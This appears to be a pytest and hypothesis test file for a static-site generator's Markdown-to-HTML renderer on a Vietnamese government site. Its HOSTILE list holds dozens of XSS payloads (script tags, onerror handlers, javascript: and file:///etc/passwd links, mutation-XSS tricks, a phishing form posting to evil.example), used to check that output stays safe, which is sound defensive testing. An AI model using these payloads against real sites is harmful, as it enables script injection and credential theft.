"""What an editor writes becomes HTML that does no harm, around the parts it places."""

import re
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from parsite.model.article import Article, Directive
from parsite.model.page import Heading
from parsite.model.photo import Picture
from parsite.model.phrase import Phrase, Phrases
from parsite.stages.render.markup import Piece, pieces
from tests.webpages import read

HERE = "https://tinh.example/cchc/2024/"
TAGS = {
    *("a", "blockquote", "br", "code", "div", "em", "figcaption", "figure", "h2", "h3", "h4", "h5"),
    *("h6", "hr", "img", "li", "ol", "p", "pre", "section", "strong", "sup", "table", "tbody"),
    *("td", "th", "thead", "tr", "ul"),
}
ATTRIBUTES = {
    *("id", "class", "title", "href", "rel", "src", "srcset", "sizes", "alt", "width", "height"),
    *("loading", "decoding", "start", "scope", "role", "tabindex", "aria-label"),
}
PART = "[[ảnh]]"
WORDS = {
    "note": "Lưu ý",
    "important": "Quan trọng",
    "warning": "Cảnh báo",
    "correction": "Đính chính",
    "titled": "{kind} – {title}",
    "table": "Bảng {n}",
    "footnotes": "Các chú thích",
    "footnote": "Chú thích {n}",
    "back": "Về chỗ {n}",
    "back_again": "Về chỗ {n} lần {time}",
}
SAY = Phrases({f"prose.{key}": Phrase(text) for key, text in WORDS.items()})
PICTURES = {
    "media/a.png": Picture("media/a.png", 3000, 2000, "0123456789" * 7),
    "media/hội nghị.jpg": Picture("media/hội nghị.jpg", 300, 200, "fedcba9876" * 7),
}


def article(body: str, body_line: int = 1) -> Article:
    return Article("2024", "T", body, body_line=body_line)


def shown(body: str, body_line: int = 1, root: str = "../", home: str = "../") -> list[Piece]:
    page = Heading("2024/index.html", root, "T", home=home)
    return pieces(article(body, body_line), page, SAY, PICTURES)


def html(body: str, root: str = "../", home: str = "../") -> str:
    """What a body becomes that places no parts."""
    found = shown(body, root=root, home=home)
    assert not any(piece.directive for piece in found)
    return "".join(str(piece.html) for piece in found)


def told(body: str, body_line: int = 1) -> list[Directive | str]:
    """A body's pieces: its parts, and the HTML between them."""
    return [piece.directive or str(piece.html) for piece in shown(body, body_line)]


class Harm(HTMLParser):
    """Reads HTML as a browser does and notes what could do harm."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [tag] if tag not in TAGS else []
        for name, value in attrs:
            self.found += [f"{tag} {name}"] if name not in ATTRIBUTES else []
            if name in {"href", "src"}:
                self.address(tag, value or "")
            if name == "srcset":
                for choice in (value or "").split(","):
                    self.address(tag, choice.split()[0])

    def address(self, tag: str, value: str) -> None:
        """Follow an address as browsers do, who drop line ends and take `\\` for `/`."""
        plain = re.sub(r"[\t\n\r]", "", value).strip("".join(map(chr, range(33))))
        goal = urlsplit(urljoin(HERE, plain.replace("\\", "/")))
        at_home = goal.scheme == "https" and goal.netloc == "tinh.example"
        stated = plain.lower().startswith(("https://", "http://", "mailto:", "tel:"))
        if not (at_home or (tag == "a" and stated)):
            self.found.append(f"{tag} {value}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(decl)

    def handle_pi(self, data: str) -> None:
        self.found.append(data)


def harm(text: str) -> list[str]:
    reader = Harm()
    reader.feed(text)
    reader.close()
    return reader.found


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img src="x" ONERROR\n=\n"alert(1)">',
    "<img/src=x/onerror=alert(1)//",
    "![x](x){onerror=alert(1)}",
    '![x](media/a.png" onerror="alert(1))',
    "![x](https://evil.example/dem.png)",
    "![x](//evil.example/dem.png)",
    "![x](\\\\evil.example/dem.png)",
    "![x](/\\evil.example/dem.png)",
    "![x](/\t/evil.example/dem.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '<img srcset="https://evil.example/dem.png 1x" src="media/a.png">',
    '<img src="media/a.png" style="position:fixed;inset:0">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example/)",
    "[x](///evil.example/)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: //evil.example",
    "<javascript:alert(1)>",
    '<a href="https://tinh.example" onclick="alert(1)" style="x" target="_top">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import '//evil.example/a.css';</style>",
    '<div style="background:url(//evil.example/a.png)">x</div>',
    '<link rel="stylesheet" href="//evil.example/a.css">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<iframe src="//evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="//evil.example"></object><embed src="//evil.example">',
    '<form action="//evil.example"><input name="mat-khau"><button>Gửi</button></form>',
    "<video src=//evil.example/a.mp4 autoplay onplay=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "<p onmouseover=alert(1)>x</p>",
    '<h2 id="x" onfocus=alert(1) tabindex=1 autofocus>x</h2>',
    "`<script>alert(1)</script>` <b>`</b><script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '# x <img src=x onerror=alert(1)> ["](javascript:alert(1))',
    '<td style="color:red" background="//evil.example/a.png">x</td>',
    '<q cite="javascript:alert(1)">x</q><blockquote cite="javascript:alert(1)">x</blockquote>',
    '!!! lưu ý "<img src=x onerror=alert(1)>"\n    <script>alert(1)</script>',
    '!!! lưu ý "[x](javascript:alert(1)) " onclick="alert(1)"\n    x',
    '!!! lưu ý" onclick="alert(1)\n    x',
    "!!! <script>alert(1)</script>\n    x",
    '![x" onerror="alert(1)](media/a.png)',
    '![x](media/a.png "x" onerror="alert(1)")',
    "![x](media/a.png '\"><script>alert(1)</script>')",
    "![<script>alert(1)</script>](media/a.png)",
    "![x](media/a.png, https://evil.example/a.png 2x)",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    '[^1" onclick="alert(1)]\n\n[^1" onclick="alert(1)]: x',
    '| <b onclick=alert(1)> |\n|:--" onclick="alert(1)|\n| ![x](javascript:alert(1)) |',
    "[x](https://tinh.example){target=_blank}",
]


@pytest.mark.parametrize("body", HOSTILE)
def test_nothing_an_editor_pastes_can_run_or_fetch_from_elsewhere(body: str) -> None:
    assert harm(html(body)) == []


@pytest.mark.parametrize("body", HOSTILE)
def test_nor_among_the_parts_of_an_article(body: str) -> None:
    between = [piece for piece in told(f"{PART}\n{body}\n{PART}\n") if isinstance(piece, str)]
    assert harm("".join(between)) == []


BITS = re.findall(r"[A-Za-z]+|[^A-Za-z]", "".join(HOSTILE))
STRUCTURES = [
    *(
        "\n\n",
        "\n    ",
        "](",
        "\n\n!!! lưu ý ",
        "\n| a |\n|---|\n| ",
        "[^1]",
        "\n\n[^1]: ",
        "![a](",
    ),
    *("media/a.png", "media/hội nghị.jpg", '"', "- "),
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(sorted({*BITS, *STRUCTURES})), max_size=30))
def test_nor_anything_put_together_of_it_and_every_stretch_is_whole(words: list[str]) -> None:
    for piece in shown("".join(words)):
        assert harm(str(piece.html or "")) == []
        read(str(piece.html or ""))


@pytest.mark.parametrize(
    ("written", "address"),
    [
        ("2017/", "../2017/"),
        ("/2017/", "../2017/"),
        ("/", "../"),
        ("media/quyet-dinh.pdf", "../media/quyet-dinh.pdf"),
        ("2017/#bang-so", "../2017/#bang-so"),
        ("don-vi/so-noi-vu/?a=1&amp;b=2", "../don-vi/so-noi-vu/?a=1&amp;b=2"),
        ("#viec-can-lam", "#viec-can-lam"),
        ("https://tinh.example/a", "https://tinh.example/a"),
        ("http://tinh.example/a", "http://tinh.example/a"),
        ("mailto:cchc@tinh.example", "mailto:cchc@tinh.example"),
        ("tel:+84208123456", "tel:+84208123456"),
        ("media/quyết định (1).pdf", "../media/quyết%20định%20(1).pdf"),
        ("<https://tinh.example/a b|c>", "https://tinh.example/a%20b%7Cc"),
    ],
)
def test_addresses_are_written_from_the_sites_root(written: str, address: str) -> None:
    assert f'href="{address}"' in html(f"[x]({written})")


def test_pages_are_those_of_the_articles_language_and_files_are_everyones() -> None:
    made = html("[x](2017/) [y](media/a.pdf) [z](assets/b.css)", root="../../", home="../")
    assert re.findall('href="(.*?)"', made) == [
        "../2017/",
        "../../media/a.pdf",
        "../../assets/b.css",
    ]


def test_links_out_of_the_site_tell_it_nothing() -> None:
    made = html("[x](2017/) [y](https://tinh.example/) <https://tinh.example/> [^1]\n\n[^1]: z")
    assert re.findall('href="([^"]*)"[^>]*rel="(.*?)"', made) == [
        ("https://tinh.example/", "noopener"),
        ("https://tinh.example/", "noopener"),
    ]
    assert made.count("rel=") == 2


def test_a_picture_is_sent_as_large_as_needed_when_it_is_needed() -> None:
    path = "../media/a-01234567"
    assert html("Lời ![Hội nghị](media/a.png) lời") == (
        '<p>Lời <img alt="Hội nghị" decoding="async" height="1067" loading="lazy"'
        ' sizes="(min-width: 800px) 750px, calc(100vw - 2rem)"'
        f' src="{path}-800.webp" srcset="{path}-480.webp 480w, {path}-800.webp 800w,'
        f' {path}-1200.webp 1200w, {path}-1600.webp 1600w" width="1600"> lời</p>'
    )


@pytest.mark.parametrize(
    "target",
    [
        "media/hội nghị.jpg",
        "<media/hội nghị.jpg>",
        "/media/hội nghị.jpg",
        "media/h%E1%BB%99i%20ngh%E1%BB%8B.jpg",
    ],
)
def test_a_picture_is_known_however_its_name_is_written(target: str) -> None:
    made = html(f"Lời ![x]({target})", root="../../")
    assert 'src="../../media/hoi-nghi-fedcba98-300.webp"' in made


@pytest.mark.parametrize("target", ["https://evil.example/dem.png", "media/b.png", "//a.example/b"])
def test_of_a_picture_that_is_not_the_sites_own_its_words_are_left(target: str) -> None:
    assert html(f"![Hội <nghị>]({target})") == "<p><em>Hội &lt;nghị&gt;</em></p>"


def structure(made: str) -> list[str]:
    """The elements of HTML in their order, and the words between them."""
    return [part for part in re.findall(r"</?\w+|[^<>]+(?=<)", made) if part.strip()]


@pytest.mark.parametrize(
    ("body", "parts"),
    [
        (
            '![A](media/a.png "Hội nghị <b> & họp")',
            [
                *("<figure", "<img", "<figcaption", "Hội nghị &lt;b&gt; &amp; họp"),
                *("</figcaption", "</figure"),
            ],
        ),
        (
            '[![A](media/a.png "B")](2024/)',
            ["<figure", "<a", "<img", "</a", "<figcaption", "B", "</figcaption", "</figure"],
        ),
        ("![A](media/a.png)", ["<p", "<img", "</p"]),
        ("![A](media/a.png) lời", ["<p", "<img", " lời", "</p"]),
        ("![A](media/a.png) ![B](media/a.png)", ["<p", "<img", "<img", "</p"]),
        (
            "!!! lưu ý\n    ![A](media/a.png 'B')",
            [
                *("<div", "<p", "Lưu ý", "</p", "<figure", "<img", "<figcaption", "B"),
                *("</figcaption", "</figure", "</div"),
            ],
        ),
    ],
)
def test_a_picture_alone_in_its_paragraph_is_a_figure_where_its_title_is_the_caption(
    body: str, parts: list[str]
) -> None:
    assert structure(html(body)) == parts


def test_a_picture_alone_in_its_paragraph_is_known_by_it() -> None:
    assert html("![A](media/a.png)").startswith('<p class="picture"><img')
    assert html("![A](media/a.png) lời").startswith("<p><img")


@pytest.mark.parametrize(
    ("line", "kind", "title"),
    [
        ("!!! lưu ý", "note", "Lưu ý"),
        ('!!! cảnh báo "Số liệu *tạm* thời"', "warning", "Cảnh báo – Số liệu <em>tạm</em> thời"),
        ("!!! đính chính “Sở Y tế”", "correction", "Đính chính – Sở Y tế"),
        ('!!! quan trọng ""', "important", "Quan trọng"),
        ('!!! warning "<b>"', "warning", "Cảnh báo – &lt;b&gt;"),
        ("!!! chú ý", "note", "Lưu ý"),
    ],
)
def test_a_box_says_what_it_is(line: str, kind: str, title: str) -> None:
    assert html(f"Một\n\n{line}\n    Hai\n\n    Ba\n\nBốn") == (
        f'<p>Một</p>\n<div class="admonition {kind}" role="note">\n'
        f'<p class="admonition-title">{title}</p>\n<p>Hai</p>\n<p>Ba</p>\n</div>\n<p>Bốn</p>'
    )


def test_a_table_scrolls_in_a_region_that_a_keyboard_reaches_and_stays_a_table() -> None:
    table = "| A | B |\n|---|---|\n| 1 | 2 |\n"
    made = html(f"{table}\n{table}")
    assert re.findall(r"<section(.*?)>\s*<table>", made) == [
        f' aria-label="Bảng {n}" class="table-scroll" tabindex="0"' for n in (1, 2)
    ]
    assert made.count("</table>\n</section>") == 2


def test_header_cells_say_what_they_are_of_and_empty_ones_are_none() -> None:
    made = html("| | B |\n|---|---|\n| 1 | 2 |\n")
    assert re.findall(r"<t[hd]\b.*?>", made) == ["<td>", '<th scope="col">', "<td>", "<td>"]
    assert "thead" not in html("| | |\n|---|---|\n| 1 | 2 |\n")


def test_a_tables_columns_are_aligned_by_a_class() -> None:
    made = html("| Đơn vị | Điểm | Hạng | Ghi chú |\n|:--|--:|:-:|---|\n| A | 1 | 2 | 3 |\n")
    assert re.findall(r'<(t[hd])(?: class="(.*?)")?(?: scope="col")?>(.*?)<', made) == [
        ("th", "align-left", "Đơn vị"),
        ("th", "align-right", "Điểm"),
        ("th", "align-center", "Hạng"),
        ("th", "", "Ghi chú"),
        ("td", "align-left", "A"),
        ("td", "align-right", "1"),
        ("td", "align-center", "2"),
        ("td", "", "3"),
    ]
    assert "style" not in made


@pytest.mark.parametrize(
    ("heading", "made"),
    [
        ("## Đại Từ", '<h2 id="muc-dai-tu">Đại Từ</h2>'),
        ("## Đánh giá & kết quả", '<h2 id="muc-danh-gia-ket-qua">Đánh giá &amp; kết quả</h2>'),
        ("### Sở Khoa học và Công nghệ", "<h3"),
        ("# Cải cách", '<h2 id="muc-cai-cach">Cải cách</h2>'),
        ("Cải cách\n========", '<h2 id="muc-cai-cach">Cải cách</h2>'),
        ("###### Ghi chú", "<h6"),
        ("## Một\n\n## Một", '<h2 id="muc-mot_1">Một</h2>'),
    ],
)
def test_a_heading_has_an_address_in_unmarked_letters_and_is_never_the_first(
    heading: str, made: str
) -> None:
    assert made in html(heading)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Điểm <b>cao</b>", "<p>Điểm &lt;b&gt;cao&lt;/b&gt;</p>"),
        ("<div>Điểm</div>", "<p>&lt;div&gt;Điểm&lt;/div&gt;</p>"),
        ("3 < 5 & 7 > 5", "<p>3 &lt; 5 &amp; 7 &gt; 5</p>"),
        ("<https://tinh.example/>", '<p><a href="https://tinh.example/"'),
    ],
)
def test_html_is_text(written: str, shown: str) -> None:
    assert html(written).startswith(shown)


def test_footnotes_are_numbered_as_they_are_met_and_lead_there_and_back() -> None:
    made = html("Một[^x y], hai[^ư], một[^x y].\n\n[^ư]: Hai.\n[^x y]: Một.\n[^z]: Ba.")
    marks = re.findall(r'<sup id="(.*?)"><a aria-label="(.*?)".*?href="#(.*?)".*?>(\d)<', made)
    assert marks == [
        ("trich-1", "Chú thích 1", "chu-thich-1", "1"),
        ("trich-2", "Chú thích 2", "chu-thich-2", "2"),
        ("trich-1-2", "Chú thích 1", "chu-thich-1", "1"),
    ]
    assert re.findall(r'<li id="(.*?)">\s*<p>(\w+)', made) == [
        ("chu-thich-1", "Một"),
        ("chu-thich-2", "Hai"),
        ("chu-thich-3", "Ba"),
    ]
    assert re.findall(r'<a aria-label="(.*?)" class="footnote-backref" href="#(.*?)"', made) == [
        ("Về chỗ 1", "trich-1"),
        ("Về chỗ 1 lần 2", "trich-1-2"),
        ("Về chỗ 2", "trich-2"),
    ]
    assert '<section aria-label="Các chú thích" class="footnotes" role="doc-endnotes">' in made
    assert made.count('role="doc-noteref"') == made.count('role="doc-backlink"') == 3


@pytest.mark.parametrize(
    "body",
    [
        "Một[^1].\n\n[^1]:\n\n    - Hai\n    - Ba",
        "Một[^1].\n\n[^1]: Hai\n\n    !!! lưu ý\n        Ba",
        "| A[^1] |\n|---|\n| 1[^1] |\n\n[^1]: Hai",
        "## Một[^1]\n\n[^1]: Hai[^2].\n[^2]: Ba[^1].",
        "Một[^1].\n\n[^1]: Hai\n\n    [^3]: Ba[^1]",
        "Một[^1].\n\n[^1]:\n",
        "Một[^1].\n\n[^1]: Hai\n[^2]: Ba",
    ],
)
def test_every_footnote_leads_somewhere_and_every_name_is_given_once(body: str) -> None:
    made = html(body)
    names = re.findall(r' id="(.*?)"', made)
    goals = re.findall(r'href="#(.*?)"', made)
    assert len(names) == len(set(names))
    assert goals
    assert {*goals} <= {*names}
    assert not any(re.search(r"\s", name) for name in names)


def test_two_articles_share_no_footnotes_and_no_link_names() -> None:
    html("Một[^1] [x].\n\n[^1]: Hai.\n\n[x]: https://tinh.example/")
    assert html("Một[^1] [x].") == "<p>Một[^1] [x].</p>"


def photo(line: int) -> Directive:
    return Directive("photo", "", line)


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (PART, [photo(1)]),
        (f"Một\n{PART}\nHai", ["<p>Một</p>", photo(2), "<p>Hai</p>"]),
        (f"Một\n\n{PART}\n\nHai", ["<p>Một</p>", photo(3), "<p>Hai</p>"]),
        (f"{PART}\n{PART}", [photo(1), photo(2)]),
        (f"{PART}\nHai", [photo(1), "<p>Hai</p>"]),
        (f"Một\n{PART}", ["<p>Một</p>", photo(2)]),
        (f"Một\n{PART}  \r\nHai", ["<p>Một</p>", photo(2), "<p>Hai</p>"]),
        (f"Một\n{PART}\n===", ["<p>Một</p>", photo(2), "<p>===</p>"]),
        (
            f"- Một\n{PART}\n- Hai",
            ["<ul>\n<li>Một</li>\n</ul>", photo(2), "<ul>\n<li>Hai</li>\n</ul>"],
        ),
        (
            f"> Một\n{PART}\n> Hai",
            [
                "<blockquote>\n<p>Một</p>\n</blockquote>",
                photo(2),
                "<blockquote>\n<p>Hai</p>\n</blockquote>",
            ],
        ),
        (f"**Một\n{PART}\nHai**", ["<p>**Một</p>", photo(2), "<p>Hai**</p>"]),
        (
            "[[ bảng xếp hạng :  so ]]\n[[bảng xếp hạng]]",
            [Directive("ranking", "so", 1), Directive("ranking", "", 2)],
        ),
    ],
)
def test_a_part_stands_between_the_text_before_it_and_after_it(
    body: str, expected: list[Directive | str]
) -> None:
    assert told(body) == expected


def test_a_parts_line_is_that_of_the_file() -> None:
    assert told(f"Một\n\n{PART}", body_line=12)[1] == photo(14)


def test_a_footnote_reaches_across_a_part() -> None:
    before, part, after = told(f"Một[^1].\n\n{PART}\n\n[^1]: Hai.")
    assert part == photo(3)
    assert 'href="#chu-thich-1"' in str(before)
    assert 'id="chu-thich-1"' in str(after)


@pytest.mark.parametrize(
    "body",
    [
        f"Một {PART} hai",
        f"{PART} hai",
        f"Một {PART}",
        f"    {PART}",
        f"- {PART}",
        f"> {PART}",
        f"`{PART}`",
        f"| a |\n|---|\n| {PART} |",
        f"## {PART}",
        "[[a]] [[b]]",
        "[[]]",
        "[[a\nb]]",
        "\\[[ảnh]]",
    ],
)
def test_brackets_that_are_not_a_whole_line_are_text(body: str) -> None:
    made = html(body)
    assert re.sub(r"<.*?>|\s", "", made).count("[[") == body.count("[[")


@pytest.mark.parametrize(
    "body",
    [
        f"<div>\n{PART}\n</div>",
        f"<div>\n\n{PART}\n\n</div>",
        f"<div>\n{PART}\n\nHai",
        f"<pre>\n{PART}\n</pre>",
        f"<!--\n{PART}\n-->",
        f"<ul>\n<li>\n{PART}\n</li>\n</ul>",
        f"<table><tr><td>\n{PART}\n</td></tr></table>",
        f"<p>\n{PART}",
        f"Một\n{PART}\n<div>\n{PART}\n</div>\n{PART}",
    ],
)
def test_a_part_that_an_article_places_is_there_wherever_it_was_placed(body: str) -> None:
    """Else a ranking would be gone from its page, which shows by itself what no article places."""
    placed = [piece for piece in told(body) if isinstance(piece, Directive)]
    assert placed == list(article(body).directives)
    assert not re.search("[\ue000-\uf8ff]", "".join(map(str, told(body))))


@pytest.mark.parametrize("text", ["parsite-directive-0", "\ue0000\ue001", "\ue0000", "\x020\x03"])
def test_no_text_is_taken_for_a_part(text: str) -> None:
    assert not any(isinstance(piece, Directive) for piece in told(text))
    assert [piece for piece in told(f"{text}\n\n{PART}") if isinstance(piece, Directive)] == [
        photo(3)
    ]
